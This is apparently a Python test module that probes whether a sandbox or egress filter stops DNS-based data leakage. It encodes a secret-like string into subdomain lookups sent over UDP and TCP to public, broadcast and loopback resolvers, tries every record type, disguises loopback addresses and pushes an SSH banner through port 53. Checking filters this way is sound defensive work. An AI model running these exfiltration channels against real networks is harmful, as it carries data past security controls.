"""Lookups that would carry data out, to every sort of server, in every type."""

import contextlib
import os
import socket
import struct

from .attempts import attempt, reason
from .wire import ask, request, tls

TYPES = {"A": 1, "NULL": 10, "TXT": 16, "AAAA": 28, "SRV": 33, "SVCB": 64, "HTTPS": 65, "ANY": 255, "TYPE65280": 65280}
SERVERS = ("8.8.8.8", "::1", "ff02::1", "255.255.255.255")
ANSWERING = {"8.8.8.8", "::1"}
DATA = "c2VjcmV0-ZGF0YQ"


def query(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return os.urandom(2) + struct.pack("!HHHHH", 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def answered(data):
    """Return rcode, how many records, and the address if there is one."""
    flags, _, count = struct.unpack_from("!HHH", data, 2)
    address = socket.inet_ntoa(data[-4:]) if count else None
    return {"rcode": flags & 15, "answers": count, "address": address}


def over_udp(name, kind, server):
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.settimeout(20 if server in ANSWERING else 0.5)
        try:
            if server in ANSWERING:
                sock.connect((server, 53))
                sock.send(query(name, kind))
            else:
                sock.sendto(query(name, kind), (server, 53))
            return answered(sock.recv(4096))
        except OSError as error:
            return reason(error)


def over_tcp(name, kind, server):
    try:
        with socket.create_connection((server, 53), 5) as sock:
            data = query(name, kind)
            sock.sendall(len(data).to_bytes(2) + data)
            size = int.from_bytes(sock.recv(2))
            return answered(sock.recv(size)) if size else "eof"
    except OSError as error:
        return reason(error)


def everywhere(name):
    said = {f"udp {server}": over_udp(name, 1, server) for server in SERVERS}
    said |= {f"tcp {server}": over_tcp(name, 1, server) for server in SERVERS}
    return said


@attempt("evil")
def data_under_a_denied_name(host):
    return everywhere(f"{DATA}.{host}")


@attempt("unknown")
def data_under_an_unknown_name(host):
    return everywhere(f"{DATA}.{host}")


@attempt()
def data_under_an_allowed_wildcard(host):
    return everywhere(f"{DATA}.{host}")


@attempt()
def only_a_connection_resolves(host):
    """The name leaves when a connection is let out, and only then."""
    return [over_udp(f"asked.{host}", 1, "8.8.8.8"), ask(tls(f"used.{host}"), request(f"used.{host}"))]


@attempt()
def a_denied_request_resolves_nothing(host):
    return ask(tls(host), request("other.evil.example"))


@attempt()
def every_type(host):
    return {name: over_udp(f"{name.lower()}.{host}", kind, "8.8.8.8") for name, kind in TYPES.items()}


@attempt("evil")
def every_type_of_a_denied_name(host):
    return {name: over_udp(f"{name.lower()}.{host}", kind, "8.8.8.8") for name, kind in TYPES.items()}


@attempt()
def spelled_addresses_as_names(host):
    return {name: over_udp(name, 1, "8.8.8.8") for name in ("2130706433", "0x7f.1", "localhost", "127.0.0.1")}


@attempt("raw")
def port_53_for_something_else(host):
    said = []
    for data in (b"SSH-2.0-smuggler\r\n", request(host), b"\0\5hello"):
        try:
            with socket.create_connection((host, 53), 5) as sock:
                sock.sendall(data)
                with contextlib.suppress(OSError):  # it may be reset already, which is for recv() to say
                    sock.shutdown(socket.SHUT_WR)
                said.append({"got": sock.recv(1000).decode("latin-1")})
        except OSError as error:
            said.append(reason(error))
    return said
